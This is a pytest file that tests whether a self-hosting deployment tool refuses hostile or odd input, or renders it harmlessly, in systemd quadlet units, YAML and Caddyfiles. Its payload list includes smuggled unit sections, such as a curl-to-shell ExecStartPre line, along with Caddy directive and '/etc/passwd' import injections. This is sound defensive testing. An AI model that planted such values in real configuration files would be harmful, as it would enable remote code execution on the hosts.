"""Hostile and odd input in every field that reaches a rendered file.

A value is either refused with a message or written harmlessly: parsed back the way the reading program
does (systemd/quadlet, PyYAML, Caddy's lexer), the files have exactly the sections, keys, variables and
directives of the same release without the value, and the value reads back unchanged. Open WebUI's settings
are ``Environment=`` lines of ``openwebui.container``, so they are read back with the project's quadlet parser.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import re
from typing import Any

import pytest
import yaml
from django.contrib.auth.models import User
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from leger.marketplace.models import Selection
from leger.providers.models import Credential
from leger.releases import quadlet
from leger.releases.models import Release
from leger.releases.rendering import RenderError, render
from leger.releases.services import build_snapshot, render_snapshot
from leger.releases.snapshot import Snapshot, SnapshotError, example_snapshot
from leger.releases.validation import validate
from leger.tailnet.models import TailnetSettings
from tests.releases.conftest import unit_environment
from tests.releases.test_services_setup import add_key, add_tailnet, catalog

__all__ = ["catalog"]  # a fixture used by name

# Each tries to end the value early and start something of its own in one of the formats.
PAYLOADS = [
    "a\nb",
    "x\n[Service]\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    "x\r\n[Install]\r\nWantedBy=evil.target",
    "%h %n %%",
    "$HOME ${PATH} $$",
    "{{ 7 * 7 }} {% raw %} {# c #}",
    "\\ trailing backslash \\",
    "\"double\" 'single' `back`",
    " padded ",
    "\ttab\x0bvt\x0cff",
    "\u202eevil\u202c right-to-left \u200f mark",
    "e\u0301\u0327 combining",
    "emoji 😀👩‍👩‍👧",
    "line\u2028separator\u2029[Service]\u2028ExecStart=/bin/false",
    "next\x85line: injected",
    "\ufeffbom",
    "key: value\n- item\nmodels: {}",
    "#comment",
    "}\n:80 {\n\trespond hi\n}",
    "import /etc/passwd",
    "{$HOME} {env.HOME}",
    "esc\x1b[31mred",
    "c1\x80\x9fcontrols \ufffe\uffff non-characters",
    "nul\x00byte",
    "lone \ud800 surrogate",
]

UNIT_SUFFIXES = (".container", ".network", ".volume")
YAML_SUFFIXES = (".yaml", ".yml")


def unit_structure(text: str) -> list[tuple[str, str, tuple[str, ...]]]:
    """(section, key, variable names it sets) of every entry, as quadlet reads the file."""
    unit = quadlet.parse(text)
    assert not unit.problems, unit.problems
    out = []
    for section in unit.sections:
        for entry in section.entries:
            names: tuple[str, ...] = ()
            if entry.key in ("Environment", "Label"):
                names = tuple(word.split("=", 1)[0] for word in quadlet.split_words(entry.value))
            out.append((section.name, entry.key, names))
    return out


def yaml_paths(data: Any, prefix: tuple[Any, ...] = ()) -> set[tuple[Any, ...]]:
    paths = {prefix}
    if isinstance(data, dict):
        for key, value in data.items():
            paths |= yaml_paths(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            paths |= yaml_paths(value, (*prefix, index))
    return paths


def caddy_directives(text: str) -> list[str]:
    """Every non-comment line, as Caddy's lexer sees lines (a # word starts a comment to the end of the line)."""
    lines = []
    for line in text.split("\n"):
        words = line.split()
        if words and not words[0].startswith("#"):
            lines.append(line.strip())
    return lines


def structure(files: dict[str, str]) -> dict[str, Any]:
    """What a reading program sees of each file, minus the free-text values."""
    out: dict[str, Any] = {}
    for path, text in files.items():
        if path.endswith(UNIT_SUFFIXES):
            # Open WebUI's settings included: one Environment= line per variable, in the same order.
            out[path] = unit_structure(text)
        elif path.endswith(YAML_SUFFIXES):
            out[path] = yaml_paths(yaml.safe_load(text))
        elif path == "Caddyfile":
            out[path] = caddy_directives(text)
        else:
            out[path] = text  # a file no reader above knows must not change at all
    return out


def openwebui_variables(files: dict[str, str]) -> dict[str, str]:
    """Every variable Open WebUI's container gets: all of them are its unit's Environment= lines."""
    assert not any(path.endswith(".env") for path in files), "Open WebUI's settings belong in its unit"
    return unit_environment(files["openwebui.container"])


def render_or_refuse(snapshot: Snapshot) -> dict[str, str] | None:
    """The files, or None when the renderer refused the value with a message."""
    try:
        files = render(snapshot)
    except (RenderError, SnapshotError) as error:
        assert str(error).strip(), "a refusal must say what to change"
        return None
    for text in files.values():
        text.encode("utf-8")  # every file can be written and uploaded
    assert validate(files, snapshot) == []
    return files


@pytest.fixture(scope="module")
def full() -> Snapshot:
    return example_snapshot("full")


@pytest.fixture(scope="module")
def baseline(full: Snapshot) -> dict[str, str]:
    return render(full)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_release_name_never_adds_a_key_section_or_directive(
    full: Snapshot, baseline: dict[str, str], payload: str
) -> None:
    snapshot = copy.deepcopy(full)
    snapshot["release"]["name"] = payload
    files = render_or_refuse(snapshot)
    if files is None:
        return
    assert structure(files) == structure(baseline)
    assert openwebui_variables(files).keys() == openwebui_variables(baseline).keys()
    labels = unit_environment(files["openwebui.container"].replace("Label=", "Environment="))
    assert labels["run.leger.release"] == payload


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_an_open_webui_value_is_one_variable_that_reads_back_unchanged(
    full: Snapshot, baseline: dict[str, str], payload: str
) -> None:
    snapshot = copy.deepcopy(full)
    snapshot["openwebui"]["WEBUI_NAME"] = payload
    addon = next(a for a in snapshot["addons"] if a["id"] == "openai-embeddings")
    addon["variables"]["RAG_EMBEDDING_MODEL"] = payload
    files = render_or_refuse(snapshot)
    if files is None:
        return
    assert structure(files) == structure(baseline)
    variables = openwebui_variables(files)
    assert variables.keys() == openwebui_variables(baseline).keys()
    assert variables["WEBUI_NAME"] == payload
    assert variables["RAG_EMBEDDING_MODEL"] == payload


def test_a_lone_surrogate_or_nul_is_refused_by_the_renderer_not_crashed_on(full: Snapshot) -> None:
    for payload in ("lone \ud800 surrogate", "nul\x00byte"):
        for edit in ("name", "openwebui"):
            snapshot = copy.deepcopy(full)
            if edit == "name":
                snapshot["release"]["name"] = payload
            else:
                snapshot["openwebui"]["WEBUI_NAME"] = payload
            with pytest.raises((RenderError, SnapshotError)):
                render(snapshot)


# --- through the API: what users can actually send -----------------------------------------------------------


@pytest.fixture
def owner(alice: User, catalog: None) -> dict[str, Any]:
    credential, _ = add_key(alice, "anthropic")
    add_tailnet(alice)
    return {"user": alice, "credential": credential}


@pytest.fixture
def api(owner: dict[str, Any]) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=owner['user']).key}")
    return client


def send(api: APIClient, method: str, path: str, body: Any) -> Any:
    """A JSON body as raw text, so lone surrogates (legal in JSON text) arrive as the client wrote them."""
    raw = json.dumps(body)  # ensure_ascii: \ud800 stays an escape the server's parser turns into a surrogate
    return getattr(api, method)(path, raw, content_type="application/json")


def refused_or_ok(answer: Any) -> None:
    assert answer.status_code < 500, answer.content[:500]
    if answer.status_code == 400:
        body = answer.json()
        assert body and all(messages for messages in body.values()), body


def test_a_10_mb_body_is_refused_cleanly(api: APIClient) -> None:
    huge = json.dumps({"name": "x" * (10 * 1024 * 1024)})
    for path in ("/api/v1/releases/", "/api/v1/credentials/", "/api/v1/marketplace/selections/"):
        answer = api.post(path, huge, content_type="application/json")
        assert 400 <= answer.status_code < 500, (path, answer.status_code)
    answer = api.put("/api/v1/tailnet/", huge, content_type="application/json")
    assert 400 <= answer.status_code < 500
    assert not Release.objects.exists()


def test_a_10_mb_form_post_to_a_page_is_refused_cleanly(alice_client: Any, owner: dict[str, Any]) -> None:
    answer = alice_client.post("/releases/new/", {"name": "x" * (10 * 1024 * 1024)})
    assert 400 <= answer.status_code < 500
    assert not Release.objects.exists()


def test_odd_text_in_a_credential_label_is_refused_or_kept_out_of_the_secret_name(api: APIClient) -> None:
    for number, payload in enumerate(PAYLOADS):
        before = Credential.objects.count()
        answer = send(
            api,
            "post",
            "/api/v1/credentials/",
            {"provider": "openai", "label": payload, "value": f"sk-proj-{number:040d}"},
        )
        refused_or_ok(answer)
        assert Credential.objects.count() == before + (answer.status_code == 201), payload
    for credential in Credential.objects.all():
        # The secret name reaches every unit (Secret=NAME,...) and the manifest: only a strict slug may.
        assert re.fullmatch(r"[a-z0-9][a-z0-9_]*", credential.secret_name), credential.secret_name


TAILNET_NAME = re.compile(r"([a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?\.)*[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?")


def test_odd_text_in_tailnet_names_is_refused_with_a_message_or_cleaned_to_a_dns_name(api: APIClient) -> None:
    for payload in PAYLOADS:
        for field in ("tailnet", "hostname", "custom_domain"):
            body = {
                "tailnet": "tail1234.ts.net",
                "hostname": "box",
                "exposure": "subdomain",
                "custom_domain": "home.example.org",
            }
            body[field] = payload
            answer = send(api, "put", "/api/v1/tailnet/", body)
            refused_or_ok(answer)
            if answer.status_code == 400:
                assert answer.json().get(field), answer.json()
            settings = TailnetSettings.objects.get()
            # These names become Caddy site addresses and URLs: nothing but a DNS name may be stored.
            for name in (settings.tailnet, settings.hostname):
                assert TAILNET_NAME.fullmatch(name), (field, payload, name)
            assert settings.custom_domain == "" or TAILNET_NAME.fullmatch(settings.custom_domain), payload


def test_odd_text_in_a_release_reaches_the_files_harmlessly_or_is_refused(
    api: APIClient, owner: dict[str, Any]
) -> None:
    for payload in PAYLOADS:
        before = Release.objects.count()
        answer = send(
            api,
            "post",
            "/api/v1/releases/",
            {"name": payload, "models": [{"model": "claude-haiku-4.5"}], "openwebui": {"WEBUI_NAME": payload}},
        )
        refused_or_ok(answer)
        if answer.status_code != 201:
            assert Release.objects.count() == before, payload
            continue
        release = Release.objects.get(pk=answer.json()["id"])
        snapshot, problems = build_snapshot(release, version=1, cut_at=dt.datetime(2025, 1, 1, tzinfo=dt.UTC))
        if snapshot is None:
            assert problems
            continue
        rendered, problems = render_snapshot(snapshot)
        if rendered is None:
            assert problems
            continue
        baseline_snapshot = copy.deepcopy(snapshot)
        baseline_snapshot["release"]["name"] = "home"
        baseline_snapshot["openwebui"]["WEBUI_NAME"] = "Home"
        assert structure(rendered.files) == structure(render(baseline_snapshot)), payload
        assert openwebui_variables(rendered.files)["WEBUI_NAME"] == snapshot["openwebui"]["WEBUI_NAME"]


def test_odd_text_in_a_selection_value_is_refused_or_kept(api: APIClient) -> None:
    for payload in PAYLOADS:
        answer = send(
            api,
            "post",
            "/api/v1/marketplace/selections/",
            {"service": "searxng", "values": {"SEARXNG_LANGUAGE": payload}},
        )
        refused_or_ok(answer)
        if answer.status_code == 201:
            assert Selection.objects.get(pk=answer.json()["id"]).values["SEARXNG_LANGUAGE"] == payload
            Selection.objects.filter(pk=answer.json()["id"]).delete()
        assert not Selection.objects.exists()


@pytest.mark.parametrize("body", ["null", "[]", '"label"', "42", '["value"]', "{"])
def test_a_body_that_is_not_an_object_is_refused_with_a_message(
    api: APIClient, owner: dict[str, Any], body: str
) -> None:
    credential = owner["credential"]
    targets = [
        ("patch", f"/api/v1/credentials/{credential.pk}/"),
        ("post", f"/api/v1/credentials/{credential.pk}/rotate/"),
        ("post", "/api/v1/credentials/"),
        ("post", "/api/v1/marketplace/selections/"),
        ("put", "/api/v1/tailnet/"),
        ("post", "/api/v1/releases/"),
        ("post", "/api/v1/auth/token/"),
    ]
    for method, path in targets:
        answer = getattr(api, method)(path, body, content_type="application/json")
        assert answer.status_code == 400, (method, path, answer.status_code, answer.content[:300])
        assert answer.json(), (method, path)
    credential.refresh_from_db()
    assert credential.label == "main"


def test_a_service_id_with_a_nul_character_is_an_unknown_service(api: APIClient) -> None:
    answer = send(api, "post", "/api/v1/marketplace/selections/", {"service": "searxng\x00", "values": {}})
    assert answer.status_code == 400
    assert "does not exist" in answer.json()["service"][0]
    assert not Selection.objects.exists()


NUL_PATHS = [
    "/api/v1/models/claude%00/",
    "/api/v1/providers/anthropic%00/",
    "/api/v1/marketplace/services/searxng%00/",
    "/api/v1/marketplace/services/?category=%00",
    "/api/v1/marketplace/services/?search=a%00",
    "/api/v1/marketplace/services/?slot=%00",
    "/models/claude%00/",
    "/marketplace/services/searxng%00/",
    "/marketplace/services/searxng%00/validate/",
]


def test_a_nul_character_in_an_id_or_filter_is_not_found_or_refused(
    api: APIClient, alice_client: Any, owner: dict[str, Any]
) -> None:
    for path in NUL_PATHS:
        client = api if path.startswith("/api/") else alice_client
        answer = client.get(path)
        assert answer.status_code in (400, 404), (path, answer.status_code)


@pytest.mark.parametrize(
    "body",
    [
        {"name": "a", "models": [{"model": "claude-haiku-4.5"}], "openwebui": {"WEBUI_NAME": "a\ud800"}},
        {"name": "b", "models": [{"model": "claude-haiku-4.5\ud800"}]},
        {"name": "c", "models": [{"model": "claude-haiku-4.5"}], "openwebui": {"\ud800": "x"}},
    ],
    ids=["openwebui-value", "model-id", "openwebui-name"],
)
def test_a_lone_surrogate_in_a_release_s_answers_is_refused_with_a_message(
    api: APIClient, body: dict[str, Any]
) -> None:
    answer = send(api, "post", "/api/v1/releases/", body)
    assert answer.status_code == 400
    assert not Release.objects.exists()
